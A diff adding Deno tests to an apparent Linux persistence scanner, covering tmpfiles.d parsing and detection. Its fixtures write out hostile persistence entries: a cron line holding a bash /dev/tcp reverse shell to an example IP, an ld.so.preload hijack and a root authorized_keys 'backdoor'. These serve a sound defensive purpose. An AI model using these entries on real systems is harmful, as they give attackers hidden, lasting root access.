@@ -5,6 +5,7 @@
 import assert from "node:assert/strict";
 import { persistence } from "../../src/scanners/persistence/index.ts";
 import { makeTree, runOne } from "../helpers.ts";
+import { parseTmpfiles } from "../../src/scanners/persistence/sources/tmpfiles.ts";
 import { exe, fired, rootWith } from "./persistence_fixtures.ts";
 
 const ELF = { content: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), mode: 0o755 };
@@ -229,4 +230,51 @@ Deno.test("boot families: a root without a package database warns once instead o
   assert.deepEqual(fired(r.findings), []);
   assert.deepEqual(r.warnings.map((w) => w.code), ["no_package_db"]);
   assert.match(r.warnings[0].detail!, /package ownership of 2 file\(s\) not checked/);
+});
+
+Deno.test("tmpfiles.d: lines, their modifiers and arguments; malformed lines are counted", () => {
+  const t = parseTmpfiles([
+    "# comment",
+    "d /run/sshd 0755 root root",
+    "L+ /etc/ld.so.preload - - - - /var/tmp/.l",
+    "w+ /root/.ssh/authorized_keys - - - - ssh-ed25519 AAAA key x",
+    "f /run/utmp 0664 root utmp -",
+    "C! /etc/pam.d - - - -",
+    "relative/path 0755",
+    "Lx /etc/x",
+    "\u0000\u00ff garbage",
+    "z",
+  ].join("\n"));
+  assert.deepEqual(t.lines.map((l) => [l.line, l.type, l.typeField, l.path, l.argument]), [
+    [2, "d", "d", "/run/sshd", undefined],
+    [3, "L", "L+", "/etc/ld.so.preload", "/var/tmp/.l"],
+    [4, "w", "w+", "/root/.ssh/authorized_keys", "ssh-ed25519 AAAA key x"],
+    [5, "f", "f", "/run/utmp", undefined],
+    [6, "C", "C!", "/etc/pam.d", undefined],
+  ]);
+  assert.equal(t.bad, 4);
+  assert.deepEqual(parseTmpfiles(""), { lines: [], bad: 0 });
+});
+
+Deno.test("tmpfiles.d: boot-time writes of persistence files fire; packaged and ordinary lines stay quiet", async () => {
+  using root = makeTree(rootWith(["/usr/lib/tmpfiles.d/etc.conf", "/usr/lib/tmpfiles.d/masked.conf"], {
+    "etc/tmpfiles.d/health.conf": "L+ /etc/ld.so.preload - - - - /var/tmp/.l\n" +
+      "w+ /root/.ssh/authorized_keys - - - - ssh-ed25519 AAAAC3Nza backdoor\n",
+    "etc/tmpfiles.d/jobs.conf":
+      "f+ /etc/cron.d/sync 0644 root root - * * * * * root bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
+    "var/tmp/.l": "\u007fELF\u0000",
+    // Quiet: runtime directories and files, the distribution's own links and copies (packaged).
+    "etc/tmpfiles.d/app.conf": "d /run/app 0755 app app -\nf /var/log/app.log 0640 app adm -\n",
+    "usr/lib/tmpfiles.d/etc.conf": "L /etc/os-release - - - - ../usr/lib/os-release\nC! /etc/pam.d - - - -\n",
+    "usr/lib/tmpfiles.d/masked.conf": "L+ /etc/ld.so.preload - - - - /var/tmp/.m\n",
+    "etc/tmpfiles.d/masked.conf": { symlink: "/dev/null" },
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.deepEqual(fired(r.findings), [
+    "critical persistence.command.reverse_shell /etc/tmpfiles.d/jobs.conf:1",
+    "high persistence.command.untrusted_path /etc/tmpfiles.d/health.conf:1",
+    "high persistence.tmpfiles.persistence_target /etc/tmpfiles.d/health.conf:1",
+    "high persistence.tmpfiles.persistence_target /etc/tmpfiles.d/health.conf:2",
+    "high persistence.tmpfiles.persistence_target /etc/tmpfiles.d/jobs.conf:1",
+  ]);
 });
